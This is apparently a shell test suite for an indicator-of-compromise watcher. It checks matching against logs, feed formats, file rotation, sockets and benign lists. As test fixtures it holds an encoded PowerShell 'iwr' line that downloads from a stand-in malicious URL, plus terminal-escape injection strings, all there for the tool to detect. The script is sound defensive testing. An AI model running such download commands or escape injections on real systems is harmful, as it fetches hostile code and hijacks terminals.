#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# watch.sh - known indicators in records: what hits, what is refused, and that nothing is lost on the way.
. "$(dirname "$0")/lib.sh"

cat >list.txt <<'END'
# partner's list
45.77.10.20
*.badhost.net
0.0.0.0/0
co.uk
d41d8cd98f00b204e9800998ecf8427e
not an indicator
http://files.otherbad.org/kit/gate.php
END
cat >access.log <<'END'
45.77.10.20 - - [24/Nov/2014:08:00:00 +0900] "GET / HTTP/1.1" 200 5 "-" "curl"
145.77.10.20 - - [24/Nov/2014:08:00:01 +0900] "GET /45.77.10.201 HTTP/1.1" 200 5 "-" "x/45.77.10.20"
9.9.9.9 - - [24/Nov/2014:08:00:02 +0900] "GET / HTTP/1.1" 200 5 "http://www.badhost.net/" "curl"
9.9.9.9 - - [24/Nov/2014:08:00:03 +0900] "GET / HTTP/1.1" 200 5 "http://notbadhost.net/" "curl"
END
expect 0 "$HALLMARK" watch --once -i list.txt access.log
has "3 indicators"
has "4 refused"
has "list.txt:4:"
has "range too broad"
has "public suffix"
has "list.txt:7:"
has "access.log:1: 45.77.10.20 (address, from list.txt:2)"
has "access.log:3: badhost.net (subdomain www.badhost.net"
lacks "access.log:2:"
lacks "access.log:4:"
has "2 hits"
safe_output

# Nothing found, nothing readable, wrong command lines.
echo harmless >quiet.log
expect 1 "$HALLMARK" watch --once -i list.txt quiet.log
expect 3 "$HALLMARK" watch --once -i list.txt absent.log
expect 2 "$HALLMARK" watch --once
expect 2 "$HALLMARK" watch --once --from-end -i list.txt access.log
expect 4 "$HALLMARK" watch --once quiet.log

# JSON in ECS; the same record has the same id in every run.
expect 0 "$HALLMARK" watch --once --json -i list.txt access.log
cp .out first.json
python3 - first.json <<'PY' || fail "the JSON lines are not what they should be"
import json, sys
hits = [json.loads(line) for line in open(sys.argv[1])]
assert len(hits) == 2, hits
assert hits[0]["threat"]["indicator"]["type"] == "ipv4-addr" and hits[0]["threat"]["indicator"]["ip"] == "45.77.10.20"
assert hits[0]["log"] == {"file": {"path": "access.log"}, "offset": 0}
assert hits[1]["hallmark"]["semantic"] == "subdomain" and hits[1]["hallmark"]["line"] == 3
assert hits[1]["event"]["kind"] == "alert" and len(hits[1]["event"]["id"]) == 32
PY
expect 0 "$HALLMARK" watch --once --json -i list.txt access.log
same "$(python3 -c 'import json;print([json.loads(l)["event"]["id"] for l in open(".out")])')" \
     "$(python3 -c 'import json;print([json.loads(l)["event"]["id"] for l in open("first.json")])')" "ids of hits"

# A folder as MISP lays out its feeds.
mkdir misp
echo '{"1":{"info":"not an event"}}' >misp/manifest.json
echo '{"Event":{"uuid":"1","info":"i","Attribute":[{"type":"domain","value":"www.badhost.net","to_ids":true,"uuid":"of-the-attribute"}]}}' >misp/1.json
expect 0 "$HALLMARK" watch --once -i misp access.log
has "access.log:3: www.badhost.net (domain, from misp/1.json, of-the-attribute)"
has "1 hits"
echo '{"Event":' >misp/2.json
expect 3 "$HALLMARK" watch --once -i misp access.log
has "misp/2.json"

# UTF-16 and base64, when asked.
python3 - <<'PY'
import base64
open("wide.log", "wb").write("\ufeffone\r\ntwo www.badhost.net\r\n".encode("utf-16"))
command = base64.b64encode("iwr http://files.otherbad.org/kit/gate.php".encode("utf-16-le")).decode()
open("command.log", "w").write("powershell -enc " + command + "\n")
PY
expect 1 "$HALLMARK" watch --once -i list.txt wide.log command.log
expect 0 "$HALLMARK" watch --once --utf16 --base64 -i list.txt wide.log command.log
has "wide.log:2: badhost.net (subdomain www.badhost.net, in UTF-16, from list.txt:3)"
has "command.log:1: http://files.otherbad.org/kit/gate.php (url files.otherbad.org/kit/gate.php, in base64 of UTF-16, from list.txt:8)"
has "2 hits"
safe_output
expect 0 "$HALLMARK" watch --once --json --base64 -i list.txt command.log
same "$(value "['hallmark']['wrapped']")" "['base64', 'utf16']" "how a hit was wrapped"

# Compressed files and folders; a table with a header; STIX; standard input; a line without an end.
mkdir logs
gzip -c access.log >logs/old.gz
printf 'x 45.77.10.20' >logs/open.log
expect 0 "$HALLMARK" watch --once -i list.txt logs
has "logs/old.gz:1:"
has "logs/open.log:1:"
has "3 hits"
printf 'type,value,note\nip-dst,45.77.10.20,a\ndomain,"badhost.net",b\n' >table.csv
expect 0 "$HALLMARK" watch --once -i table.csv --subdomains access.log
has "2 hits"
cat >bundle.json <<'END'
{"type":"bundle","id":"bundle--1","objects":[{"type":"indicator","id":"indicator--7","pattern_type":"stix",
 "pattern":"[ipv4-addr:value = '45.77.10.20'] OR [domain-name:value = 'www.badhost.net']"},
 {"type":"indicator","id":"indicator--8","pattern_type":"stix","pattern":"[a:b = 'c'] FOLLOWEDBY [a:b = 'd']"}]}
END
expect 0 "$HALLMARK" watch --once -i bundle.json access.log
has "2 hits"
has "indicator--7"
has "asks for more than plain equalities"
"$HALLMARK" watch --once -i list.txt - <access.log >piped 2>&1
same "$(grep -c '^-:' piped)" 2 "hits of standard input"

# A hostile record cannot command a terminal, nor can a hostile feed.
printf '\033[2J\xff 45.77.10.20 \x9b31m\n' >evil.log
printf '\033]0;x\007 bad\n45.77.10.20\n' >evil.txt
expect 0 "$HALLMARK" watch --once -i evil.txt evil.log
safe_output

# An indicator that hits everything is broken off, visibly; the others go on.
for _ in $(seq 300); do echo "45.77.10.20 x"; done >flood.log
echo "www.badhost.net" >>flood.log
expect 0 "$HALLMARK" watch --once --break-hits 100 -i list.txt flood.log
has "45.77.10.20: broken off"
has "200 suppressed"
has "badhost.net (subdomain"
expect 0 "$HALLMARK" watch --once --break-hits 1000 -i list.txt flood.log
has "badhost.net (subdomain"

# Following: growth, rotation, truncation, and kill -9. Every line's hit arrives, and a checkpoint goes on.
wait_for() { # FILE PATTERN COUNT
    for _ in $(seq 100); do
        [ "$(grep -c "$2" "$1")" -ge "$3" ] && return 0
        sleep 0.1
    done
    fail "waited for $3 times \"$2\" in $1"
    cat "$1"
}
: >live.log
"$HALLMARK" watch --json --checkpoint state -i list.txt live.log >live.out 2>live.err &
pid=$!
wait_for live.err indicators 1
echo "1 45.77.10.20" >>live.log
wait_for live.out '"line":1' 1
printf '2 45.77' >>live.log
sleep 0.3
printf '.10.20\n' >>live.log
wait_for live.out '2 45.77.10.20' 1
echo "3 45.77.10.20" >>live.log
mv live.log live.log.1
echo "4 45.77.10.20" >live.log
wait_for live.out '4 45.77.10.20' 1
wait_for live.out '3 45.77.10.20' 1
: >live.log
sleep 1.5
echo "5 45.77.10.20" >>live.log
wait_for live.out '5 45.77.10.20' 1
kill -9 $pid
wait $pid 2>/dev/null
echo "6 45.77.10.20" >>live.log
"$HALLMARK" watch --json --once --checkpoint state -i list.txt live.log >again.out 2>again.err
same "$(grep -c '6 45.77.10.20' again.out)" 1 "the line written after the kill"
same "$(cat live.out again.out | python3 -c 'import json,sys;print(len({json.loads(l)["event"]["id"] for l in sys.stdin}))')" 6 "different hits"
expect 1 "$HALLMARK" watch --json --once --checkpoint state -i list.txt live.log
echo '{"sources":[{"path":1}]}' >state
expect 4 "$HALLMARK" watch --once --checkpoint state -i list.txt live.log
has "checkpoint is damaged"

# A new set of indicators is swapped in while records flow, and not one line is passed over.
cp list.txt swapped.txt
: >flow.log
"$HALLMARK" watch --json --break-hits 1000000 -i swapped.txt flow.log >flow.out 2>flow.err &
pid=$!
wait_for flow.err "indicators" 1
(for i in $(seq 4000); do echo "n$i 45.77.10.20 46.1.2.3"; [ $((i % 40)) = 0 ] && sleep 0.05; done >>flow.log) &
writer=$!
sleep 0.5
echo 46.1.2.3 >>swapped.txt
wait_for flow.err "from now on the new set of 4 indicators" 1
kill -HUP $pid
wait_for flow.err "from now on the new set" 2
printf '' >swapped.txt
wait_for flow.err "the new set of indicators is empty, the old one stays" 1
wait $writer
echo "last 45.77.10.20" >>flow.log
wait_for flow.out "last 45.77.10.20" 1
kill $pid
wait $pid
python3 - <<'PY' || fail "lines were lost while the set was swapped"
import json
old, new = set(), set()
for line in open("flow.out"):
    hit = json.loads(line)
    (old if hit["threat"]["indicator"]["name"] == "45.77.10.20" else new).add(hit["hallmark"]["line"])
assert old == set(range(1, 4002)), (len(old), sorted(set(range(1, 4002)) - old)[:5])
first = min(new)
assert 1 < first <= 4000 and new == set(range(first, 4001)), (first, len(new))
PY

# Topics of Kafka: what is no name of one, and settings that are none. Reading them is tests/unit/watch/test_kafka.c.
"$HALLMARK" watch --once -i list.txt kafka:nowhere 2>.kafka
if grep -q "built without librdkafka" .kafka; then
    echo "skipped: built without librdkafka"
else
    expect 2 "$HALLMARK" watch --once -i list.txt kafka:nowhere
    has "kafka:BROKER:PORT/TOPIC"
    echo "no.such.property = 1" >kafka.conf
    expect 2 "$HALLMARK" watch --once -i list.txt --kafka-config kafka.conf kafka:127.0.0.1:1/topic
    has "no.such.property"
    expect 4 "$HALLMARK" watch --once -i list.txt --kafka-config absent.conf kafka:127.0.0.1:1/topic
fi

# Records that are sent: datagrams, lines and counted records over TCP, a Unix socket.
port=$(python3 -c 'import socket; s = socket.socket(); s.bind(("127.0.0.1", 0)); print(s.getsockname()[1])')
"$HALLMARK" watch --json -i list.txt "udp:127.0.0.1:$port" "tcp:127.0.0.1:$port" "unix:$PWD/log.socket" >sent.out 2>sent.err &
pid=$!
wait_for sent.err "indicators" 1
for _ in $(seq 50); do [ -S log.socket ] && break; sleep 0.1; done
python3 - "$port" <<'PY'
import socket, sys
port = int(sys.argv[1])
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
udp.sendto(b"<34>udp one 45.77.10.20\n", ("127.0.0.1", port))
udp.sendto(b"<34>udp two 145.77.10.20", ("127.0.0.1", port))
tcp = socket.create_connection(("127.0.0.1", port))
one = b"<34>tcp counted\n45.77.10.20"
tcp.sendall(b"%d %s" % (len(one), one) + b"<34>tcp line 45.77.")
tcp.sendall(b"10.20\n<34>tcp unended 45.77.10.20")
other = socket.create_connection(("127.0.0.1", port))
other.sendall(b"x" * 3000000 + b" 45.77.10.20\n")
other.close()
tcp.close()
unix = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
unix.sendto(b"<34>unix 45.77.10.20\0", "log.socket")
PY
wait_for sent.out '"id"' 6
wait_for sent.err "tcp:127.0.0.1:$port: records, clients" 1
kill $pid
wait $pid
same "$(grep -c "\"path\":\"udp:127.0.0.1:$port\"" sent.out) $(grep -c '"path":"tcp:' sent.out) $(grep -c '"path":"unix:' sent.out)" "1 4 1" "hits over sockets"
[ -e log.socket ] && fail "the socket's name was left behind"
expect 2 "$HALLMARK" watch --once -i list.txt udp::45140
expect 2 "$HALLMARK" watch -i list.txt udp:somewhere

# What a benign list names is not told, and that is said; a URL on a benign host is told all the same.
cat >benign.json <<'END'
{"name":"Top \u001b[2J sites","type":"hostname","list":["badhost.net","otherbad.org",7]}
END
printf '1,example.com\n2,45.77.0.0/16\n' >ranks.csv
echo "http://files.otherbad.org/kit/gate.php" >>access.log
expect 0 "$HALLMARK" watch --once -i list.txt --benign benign.json access.log
has "badhost.net: its hits are not told"
has "2 hits"
has "1 harmless"
has "files.otherbad.org/kit/gate.php (url"
safe_output
expect 0 "$HALLMARK" watch --once --json --show-benign -i list.txt --benign benign.json --benign ranks.csv access.log
same "$(grep -c '"benign":{"list":' .out)" 2 "hits with a verdict"
has '"times":1'
printf '{"name":"x","type":"regex","list":["a"]}' >regex.json
expect 4 "$HALLMARK" watch --once -i list.txt --benign regex.json access.log
has "hostname, cidr and string are"

# What the casebook's published intelligence states.
expect 0 "$HALLMARK" init
expect 0 "$HALLMARK" add reports bundle.json --allow-weak-jail
expect 0 "$HALLMARK" watch --once access.log
has "from casebook"
done_testing
